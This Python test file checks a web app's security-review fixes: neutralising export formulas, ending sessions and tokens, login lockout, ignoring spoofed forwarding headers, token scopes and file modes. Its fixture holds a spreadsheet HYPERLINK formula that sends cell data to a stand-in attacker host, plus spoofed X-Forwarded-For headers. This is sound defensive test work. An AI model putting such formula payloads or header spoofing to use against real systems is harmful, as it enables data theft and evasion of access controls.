"""The holes of the security review (issue 15), each reproduced through the real app: formula
injection in exports, the first-run page, sessions and tokens after a password change, lockout,
forwarded addresses, token scopes and expiry, password rules, file modes."""

from __future__ import annotations

import io
import stat
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pacsv
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from memberlens.appstate import MIGRATIONS

PASSWORD = "plum-orchard-lantern"
EVIL_ID = '=HYPERLINK("http://evil.example/?d="&C2,"open")'


@pytest.fixture()
def small(tmp_path):
    """A project whose member ids and e-mails start like formulas, and an app with one admin."""
    from memberlens.ingest import load
    from memberlens.project import init_project
    from memberlens.web import create_app
    from memberlens.web.store import add_user

    proj = init_project(tmp_path / "p", locale="en")
    ids = [EVIL_ID, "@SUM(1+1)", "m3"]
    pacsv.write_csv(
        pa.table(
            {
                "member_id": ids,
                "email": ["=cmd@example.com", "b@example.com", "c@example.com"],
                "city": ["广州市", "广州市", "深圳市"],
                "gender": ["f", "f", "m"],
            }
        ),
        tmp_path / "members.csv",
    )
    pacsv.write_csv(
        pa.table(
            {
                "order_id": ["o1", "o2", "o3", "o4"],
                "member_id": [*ids, ids[0]],
                "status": ["paid"] * 4,
                "ordered_at": [
                    "2024-01-02 10:00:00",
                    "2024-01-03 10:00:00",
                    "2024-01-04 10:00:00",
                    "2024-02-04 10:00:00",
                ],
                "amount": ["10.00", "20.00", "30.00", "5.00"],
            }
        ),
        tmp_path / "orders.csv",
    )
    load("members", tmp_path / "members.csv", project=proj)
    load("orders", tmp_path / "orders.csv", project=proj)
    app = create_app(proj, database=f"sqlite:///{tmp_path / 's.sqlite'}")
    with app.state.ctx.store() as db:
        add_user(db, "root", PASSWORD, "admin")
    return app


# -- 1. formula injection ---------------------------------------------------------------------
def test_dashboard_exports_neutralise_formulas(login, small):
    with TestClient(small) as c:
        assert login(c, "root", PASSWORD).status_code == 303
        r = c.get("/api/members/export", params={"format": "xlsx"})
        assert r.status_code == 200
        ws = load_workbook(io.BytesIO(r.content)).active
        cells = [cell for row in ws.iter_rows() for cell in row]
        assert cells and not [x.coordinate for x in cells if x.data_type == "f"]
        values = [x.value for x in cells]
        assert "'" + EVIL_ID in values and "'@SUM(1+1)" in values
        assert all(
            x.value is None or isinstance(x.value, (int, float))
            for x in cells
            if x.data_type == "n"
        )
        text = c.get("/api/members/export", params={"format": "csv"}).content.decode("utf-8-sig")
        lines = text.splitlines()
        assert not any(
            cell.strip('"')[:1] in ("=", "+", "-", "@")
            for line in lines
            for cell in line.split(",")
        ), lines
        assert r.headers["x-k-anonymity"].isdigit()


@pytest.fixture()
def empty(tmp_path):
    """An app over a project with no data, with one admin and one analyst."""
    from memberlens.project import init_project
    from memberlens.web import create_app
    from memberlens.web.store import add_user

    proj = init_project(tmp_path / "e", locale="en")
    app = create_app(proj, database=f"sqlite:///{tmp_path / 'web.sqlite'}")
    with app.state.ctx.store() as db:
        add_user(db, "root", PASSWORD, "admin")
        add_user(db, "ana", PASSWORD, "analyst")
    app.state.test_project = proj
    return app


def _client(app, host="127.0.0.1", **kw):
    return TestClient(app, client=(host, 50000), **kw)


def _events(app, action):
    from sqlalchemy import select

    from memberlens.web.models import AuditEvent

    with app.state.ctx.store() as db:
        return db.scalars(select(AuditEvent).where(AuditEvent.action == action)).all()


def _cli(*args):
    from typer.testing import CliRunner

    import memberlens.cli.web  # noqa: F401  (registers serve and user)
    from memberlens.cli import app

    return CliRunner().invoke(app, [str(a) for a in args])


# -- 3. password change and disable end sessions and tokens ---------------------------------
def test_password_change_ends_sessions_and_lists_tokens(login, empty):
    proj = empty.state.test_project
    db_url = f"sqlite:///{empty.state.ctx.store.engine.url.database}"
    with _client(empty) as c:
        assert login(c, "ana", PASSWORD).status_code == 303
        token = c.post(
            "/api/tokens",
            json={"name": "nightly", "scopes": ["read"]},
            headers={"X-CSRF-Token": c.cookies.get("ml_csrf")},
        ).json()["token"]
        bearer = {"Authorization": f"Bearer {token}"}
        assert c.get("/api/me").status_code == 200
        r = _cli(
            "user",
            "passwd",
            "ana",
            "--password",
            "new-river-stone-path",
            "--project",
            proj.root,
            "--database",
            db_url,
        )
        assert r.exit_code == 0, r.output
        assert "1 session(s) ended" in r.output and "nightly" in r.output  # listed to revoke
        assert c.get("/api/me").status_code == 401  # the old session is over
        assert c.get("/api/me", headers=bearer).status_code == 200  # tokens are listed, kept
        assert login(c, "ana", "new-river-stone-path").status_code == 303
        r = _cli("user", "disable", "ana", "--project", proj.root, "--database", db_url)
        assert r.exit_code == 0 and "1 API token(s)" in r.output, r.output
        assert c.get("/api/me").status_code == 401
        assert c.get("/api/me", headers=bearer).status_code == 401
    # enabling the account again does not bring the old session or token back
    with empty.state.ctx.store() as db:
        from memberlens.web.store import find_user

        find_user(db, "ana").active = True
        db.commit()
    with _client(empty) as c:
        assert c.get("/api/me", headers=bearer).status_code == 401


def test_admin_disabling_an_account_revokes_its_tokens(login, empty):
    with _client(empty) as ana, _client(empty) as root:
        login(ana, "ana", PASSWORD)
        token = ana.post(
            "/api/tokens", json={"name": "t"}, headers={"X-CSRF-Token": ana.cookies.get("ml_csrf")}
        ).json()["token"]
        login(root, "root", PASSWORD)
        r = root.patch(
            "/api/users/ana",
            json={"active": False},
            headers={"X-CSRF-Token": root.cookies.get("ml_csrf")},
        )
        assert r.status_code == 200
        root.patch(
            "/api/users/ana",
            json={"active": True},
            headers={"X-CSRF-Token": root.cookies.get("ml_csrf")},
        )
        assert ana.get("/api/me").status_code == 401
        assert ana.get("/api/me", headers={"Authorization": f"Bearer {token}"}).status_code == 401


# -- 4. lockout by (account, address) -------------------------------------------------------
def test_failures_from_one_address_do_not_lock_the_account_elsewhere(login, empty):
    from memberlens.web.auth import MAX_FAILURES_PER_USER

    with _client(empty, "203.0.113.7") as attacker:
        codes = [
            login(attacker, "root", "wrong-guess-abc").status_code
            for _ in range(MAX_FAILURES_PER_USER + 1)
        ]
        assert codes == [401] * MAX_FAILURES_PER_USER + [429]
        assert login(attacker, "root", PASSWORD).status_code == 429  # this pair waits
    with _client(empty, "198.51.100.20") as owner:
        assert (
            login(owner, "root", PASSWORD).status_code == 303
        )  # the owner elsewhere is not locked out
    proj = empty.state.test_project
    db_url = f"sqlite:///{empty.state.ctx.store.engine.url.database}"
    r = _cli("user", "unlock", "root", "--project", proj.root, "--database", db_url)
    assert r.exit_code == 0 and f"{MAX_FAILURES_PER_USER} failed" in r.output, r.output
    with _client(empty, "203.0.113.7") as again:
        assert login(again, "root", PASSWORD).status_code == 303
    assert _events(empty, "login_blocked") and _events(empty, "unlock")


def test_one_address_is_limited_across_accounts(login, empty):
    from memberlens.web.auth import MAX_FAILURES_PER_IP

    with _client(empty, "203.0.113.9") as c:
        for i in range(MAX_FAILURES_PER_IP):
            assert login(c, f"guess{i}", "wrong-guess-abc").status_code == 401
        r = login(c, "ana", PASSWORD)
        assert r.status_code == 429 and "from 203.0.113.9" in r.text


def test_login_delays_grow_and_are_capped():
    import datetime as dt

    from memberlens.web.auth import MAX_DELAY, MAX_FAILURES_PER_USER, login_delay

    delays = [login_delay(n) for n in range(MAX_FAILURES_PER_USER + 12)]
    assert delays[:MAX_FAILURES_PER_USER] == [dt.timedelta(0)] * MAX_FAILURES_PER_USER
    grow = delays[MAX_FAILURES_PER_USER:]
    assert grow[0] == dt.timedelta(seconds=30) and grow[1] == dt.timedelta(seconds=60)
    assert grow == sorted(grow) and grow[-1] == MAX_DELAY


# -- 5. X-Forwarded-For only from configured proxies ----------------------------------------
def test_forwarded_for_is_ignored_unless_the_peer_is_a_trusted_proxy(empty, tmp_path):
    from memberlens.project import Project
    from memberlens.web import create_app

    spoof = {"X-Forwarded-For": "192.0.2.99"}
    with _client(empty, "127.0.0.1") as c:
        c.get("/login")
        c.post(
            "/login",
            headers=spoof,
            data={
                "username": "root",
                "password": "wrong-guess-abc",
                "csrf_token": c.cookies.get("ml_csrf"),
            },
        )
    assert [e.ip for e in _events(empty, "login_failed")] == ["127.0.0.1"]
    proj = empty.state.test_project
    proj.file.write_text(
        proj.file.read_text() + '\n[web]\ntrusted_proxies = ["127.0.0.1"]\n', encoding="utf-8"
    )
    proxied = create_app(Project.load(proj.root), database=f"sqlite:///{tmp_path / 'p.sqlite'}")
    with _client(proxied, "127.0.0.1") as c:
        c.get("/login")
        c.post(
            "/login",
            headers={"X-Forwarded-For": "10.9.9.9, 192.0.2.99"},
            data={
                "username": "x",
                "password": "wrong-guess-abc",
                "csrf_token": c.cookies.get("ml_csrf"),
            },
        )
    assert [e.ip for e in _events(proxied, "login_failed")] == ["192.0.2.99"]


def test_forwarded_client_takes_the_rightmost_untrusted_hop():
    import ipaddress

    from memberlens.web.auth import forwarded_client

    proxies = [ipaddress.ip_network("10.0.0.0/8")]
    assert forwarded_client("10.0.0.2", "1.2.3.4, 5.6.7.8, 10.0.0.9", proxies) == "5.6.7.8"
    assert forwarded_client("192.0.2.1", "5.6.7.8", proxies) == "192.0.2.1"  # peer not trusted
    assert forwarded_client("10.0.0.2", "not-an-ip", proxies) == "10.0.0.2"
    assert forwarded_client("10.0.0.2", "5.6.7.8", []) == "10.0.0.2"


def test_bad_trusted_proxies_is_a_config_error(tmp_path):
    from memberlens.exceptions import ConfigError
    from memberlens.project import Project, init_project
    from memberlens.web import create_app

    proj = init_project(tmp_path / "x")
    proj.file.write_text(proj.file.read_text() + '\n[web]\ntrusted_proxies = ["proxy.local"]\n')
    with pytest.raises(ConfigError, match="trusted_proxies"):
        create_app(Project.load(proj.root), database=f"sqlite:///{tmp_path / 's.sqlite'}")


def test_serve_runs_uvicorn_without_its_proxy_headers(empty):
    """uvicorn itself rewrites the client address from X-Forwarded-For sent by 127.0.0.1 unless
    told not to: a real server, a real socket."""
    import socket
    import threading
    import time

    import httpx
    import uvicorn

    from memberlens.cli.web import uvicorn_options

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    options = uvicorn_options("127.0.0.1", port, 1, quiet=True)
    srv = uvicorn.Server(uvicorn.Config(empty, **options))
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    try:
        for _ in range(200):
            if srv.started:
                break
            time.sleep(0.05)
        with httpx.Client(base_url=f"http://127.0.0.1:{port}") as c:
            c.get("/login")
            c.post(
                "/login",
                headers={"X-Forwarded-For": "192.0.2.99"},
                data={
                    "username": "root",
                    "password": "wrong-guess-abc",
                    "csrf_token": c.cookies.get("ml_csrf"),
                },
            )
    finally:
        srv.should_exit = True
        thread.join(10)
    assert [e.ip for e in _events(empty, "login_failed")] == ["127.0.0.1"]


# -- 7. token scopes, expiry, minting, revocation -------------------------------------------
def _token(client, **body):
    r = client.post(
        "/api/tokens", json=body, headers={"X-CSRF-Token": client.cookies.get("ml_csrf")}
    )
    return r


def test_token_scopes_expiry_and_what_a_token_may_mint(login, empty):
    import datetime as dt

    from memberlens.web.models import ApiToken

    with _client(empty) as root:
        login(root, "root", PASSWORD)
        read = _token(root, name="reader", scopes=["read"], days=30).json()
        assert read["scopes"] == ["read"] and read["parent_id"] is None
        expires = dt.datetime.fromisoformat(read["expires_at"])
        assert dt.timedelta(days=29) < expires - dt.datetime.now(dt.UTC).replace(tzinfo=None)
        default = _token(root, name="d").json()
        assert default["scopes"] == ["read"]
        life = dt.datetime.fromisoformat(default["expires_at"]) - dt.datetime.fromisoformat(
            default["created_at"]
        )
        assert life == dt.timedelta(days=90)
    bearer = {"Authorization": f"Bearer {read['token']}"}
    with _client(empty) as script:
        me = script.get("/api/me", headers=bearer).json()
        assert me["scopes"] == ["read"] and "manage_users" not in me["permissions"]
        assert script.get("/api/users", headers=bearer).status_code == 403  # admin, read scope
        assert script.get("/api/audit", headers=bearer).status_code == 403
        more = script.post("/api/tokens", headers=bearer, json={"scopes": ["read", "admin"]})
        assert more.status_code == 403 and "admin" in more.json()["detail"]
        longer = script.post("/api/tokens", headers=bearer, json={"scopes": ["read"], "days": 60})
        assert longer.status_code == 403 and "expire" in longer.json()["detail"]
        child = script.post("/api/tokens", headers=bearer, json={"scopes": ["read"], "days": 10})
        assert child.status_code == 201 and child.json()["parent_id"] == read["id"]
        child_bearer = {"Authorization": f"Bearer {child.json()['token']}"}
        grandchild = script.post("/api/tokens", headers=child_bearer, json={"days": 5}).json()
        gc_bearer = {"Authorization": f"Bearer {grandchild['token']}"}
        assert script.get("/api/me", headers=gc_bearer).status_code == 200
        # revoking a token revokes what it created, at any depth
        assert script.delete(f"/api/tokens/{read['id']}", headers=bearer).status_code == 200
        for h in (bearer, child_bearer, gc_bearer):
            assert script.get("/api/me", headers=h).status_code == 401
    # an expired token no longer authenticates
    admin_token = None
    with _client(empty) as root:
        login(root, "root", PASSWORD)
        admin_token = _token(root, name="adm", scopes=["read", "admin"]).json()
    with empty.state.ctx.store() as db:
        row = db.get(ApiToken, admin_token["id"])
        assert row.scopes == "admin,read"
        with _client(empty) as script:
            h = {"Authorization": f"Bearer {admin_token['token']}"}
            assert script.get("/api/users", headers=h).status_code == 200
            row.expires_at = dt.datetime(2000, 1, 1)
            db.commit()
            r = script.get("/api/users", headers=h)
            assert r.status_code == 401 and "expired" in r.json()["detail"]


def test_cli_tokens_have_scopes_and_are_listed_and_revoked(empty):
    proj = empty.state.test_project
    db_url = f"sqlite:///{empty.state.ctx.store.engine.url.database}"
    r = _cli(
        "user",
        "token",
        "root",
        "--scope",
        "read",
        "--scope",
        "export",
        "--days",
        "7",
        "--project",
        proj.root,
        "--database",
        db_url,
    )
    assert r.exit_code == 0 and r.output.strip().startswith("mlt_")
    bad = _cli(
        "user",
        "token",
        "root",
        "--scope",
        "everything",
        "--project",
        proj.root,
        "--database",
        db_url,
    )
    assert type(bad.exception).__name__ == "ConfigError"  # exit code 2 from `memberlens`
    assert "read, export, ingest, admin" in str(bad.exception)
    listed = _cli("user", "tokens", "root", "--project", proj.root, "--database", db_url).output
    assert "export,read" in listed and "active" in listed
    token_id = listed.split("\t")[0]
    assert (
        _cli(
            "user", "revoke-token", token_id, "--project", proj.root, "--database", db_url
        ).exit_code
        == 0
    )
    assert (
        "revoked"
        in _cli("user", "tokens", "root", "--project", proj.root, "--database", db_url).output
    )


def test_migration_gives_old_tokens_every_scope_and_an_expiry(tmp_path):

    from alembic import command
    from alembic.config import Config
    from sqlalchemy import create_engine, text

    import memberlens.web.store as store

    url = f"sqlite:///{tmp_path / 'old.sqlite'}"
    engine = create_engine(url)
    cfg = Config()
    cfg.set_main_option("script_location", str(MIGRATIONS))
    with engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.upgrade(cfg, "0001")
        conn.execute(
            text(
                "INSERT INTO users (id, username, password_hash, role, active, created_at) "
                "VALUES (1, 'old', 'x', 'admin', 1, '2026-01-01')"
            )
        )
        conn.execute(
            text(
                "INSERT INTO api_tokens (token_hash, prefix, name, user_id, created_at) "
                "VALUES ('h', 'mlt_x', 'old', 1, '2026-01-01')"
            )
        )
    s = store.open_store(url)
    with s.engine.connect() as conn:
        scopes, expires = conn.execute(text("SELECT scopes, expires_at FROM api_tokens")).one()
    assert scopes == "read,export,ingest,admin" and expires is not None


# -- 11. file modes -------------------------------------------------------------------------
def test_state_database_is_created_0600_and_wide_files_are_reported(empty):
    from memberlens.web.filemodes import loose_files

    proj = empty.state.test_project
    db = Path(empty.state.ctx.store.engine.url.database)
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
    proj.secret()  # created 0600 by the project
    url = empty.state.ctx.store.engine.url
    assert loose_files(proj, url) == []
    db.chmod(0o644)
    (proj.state_dir / "secret.key").chmod(0o640)
    (proj.root / "exports").mkdir()
    (proj.root / "exports" / "old.csv").write_text("member_id\n")
    (proj.root / "exports" / "old.csv").chmod(0o644)
    warnings = loose_files(proj, url)
    assert len(warnings) == 3 and all("chmod 600" in w for w in warnings)
    assert any("state database" in w and "0644" in w for w in warnings)
    assert any("secret key" in w for w in warnings) and any("export" in w for w in warnings)
